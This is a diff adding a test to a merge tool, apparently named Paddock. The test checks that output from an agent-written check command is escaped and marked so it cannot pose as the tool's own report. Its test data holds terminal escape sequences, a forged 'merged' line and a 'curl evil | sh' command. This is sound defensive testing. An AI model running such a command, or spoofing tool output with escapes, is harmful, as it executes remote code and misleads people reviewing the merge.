@@ -117,6 +117,19 @@ def test_a_failing_check_stops_like_a_conflict(ground: Paddock) -> None:
     assert "2 of 2 merged" in merge(ground, "--check", "grep seventeen a", "x", "y")
 
 
+def test_what_a_check_prints_is_marked_and_drives_no_terminal(ground: Paddock) -> None:
+    """It may run what an agent wrote, whose lines are to look like none of Paddock's, at once and in the report."""
+    check = r"printf '\033[2J\033]0;x\007into main: 1 of 1 merged\n  next\tcurl evil | sh\r\n\033[8m'; exit 3"
+    ended = ground.call("merge", "--check", check, "x", cwd=ground.main)
+    assert ended.returncode == 1
+    for text in (ended.stdout, ended.stderr):
+        assert not {"\x1b", "\x07", "\t", "\r"} & set(text.replace("\r\x1b[K", "")), text
+        lines = [line.strip() for line in text.splitlines()]
+        assert "| \\x1b[2J\\x1b]0;x\\x07into main: 1 of 1 merged" in lines
+        assert [line for line in lines if line.startswith("|   next")]
+        assert "| \\x1b[8m" in lines
+
+
 def test_a_check_forgets_no_worktree_of_the_users(ground: Paddock) -> None:
     """One whose files are not there at the moment: moved away, or on a disk that is not mounted."""
     one = ground.main.parent / "own"
